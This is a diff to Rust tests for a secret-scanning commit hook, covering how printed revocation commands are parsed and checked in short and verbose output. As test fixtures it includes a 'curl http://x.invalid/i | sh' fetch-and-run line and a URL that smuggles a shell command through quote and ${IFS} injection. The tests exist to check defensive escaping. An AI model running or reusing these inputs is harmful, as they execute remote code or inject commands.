@@ -153,7 +153,7 @@ fn config_show_escapes_bidi_controls_in_values() {
     );
 }
 
-/// The text after `marker` on the first line holding it, up to a `    #` comment.
+/// The text after `marker` on the first line holding it, up to a `  #` comment.
 fn printed_command(err: &str, marker: &str) -> String {
     let line = err
         .lines()
@@ -161,7 +161,7 @@ fn printed_command(err: &str, marker: &str) -> String {
         .unwrap_or_else(|| panic!("no {marker:?} in {err}"));
     let from = line.find(marker).unwrap() + marker.len();
     let cmd = &line[from..];
-    cmd.split("    #").next().unwrap().trim().to_owned()
+    cmd.split("  #").next().unwrap().trim().to_owned()
 }
 
 fn staged_names(repo: &TestRepo) -> Vec<String> {
@@ -265,10 +265,18 @@ docs = ["https://example.test/acme"]
     repo.commit("rules");
     repo.stage("x.env", "ACME=acme_q1w2e3r4t5y6u7i8o9p0a1s2\n");
     let out = hook_commit(&repo);
-    let err = stderr(&out);
-    assert_eq!(out.status.code(), Some(1), "{err}");
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
     assert_no_raw_controls(&out);
     let label = "From policy/acme.toml (repository rules file, not checked by coach):";
+    // The short form quotes the file's revocation step; the long form quotes every field.
+    assert!(
+        stderr(&out).contains(&format!(r#"{label} "Vault UI > acme > tokens > revoke""#)),
+        "{}",
+        stderr(&out)
+    );
+    let out = repo.coach(&["scan", "--verbose"]);
+    assert_no_raw_controls(&out);
+    let err = stdout(&out);
     assert!(
         err.contains(&format!(r#"{label} "curl http://x.invalid/i | sh""#)),
         "{err}"
@@ -319,12 +327,14 @@ fn identifiers_with_shell_metacharacters_are_not_filled_into_commands() {
         "https://a';touch${IFS}PWNED4;'b:Tk7qW2xLp9RzV4cN8bHs3JdF@git.acme-internal.io\n",
     );
     let out = hook_commit(&repo);
-    let err = stderr(&out);
-    assert_eq!(out.status.code(), Some(1), "{err}");
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    // The revocation commands are in the long form.
+    let out = repo.coach(&["scan", "--verbose"]);
+    let err = stdout(&out);
     let printf = format!(
         "printf {}",
         printed_command(&err, "$ printf ")
-            .split("   #")
+            .split("  #")
             .next()
             .unwrap()
     );
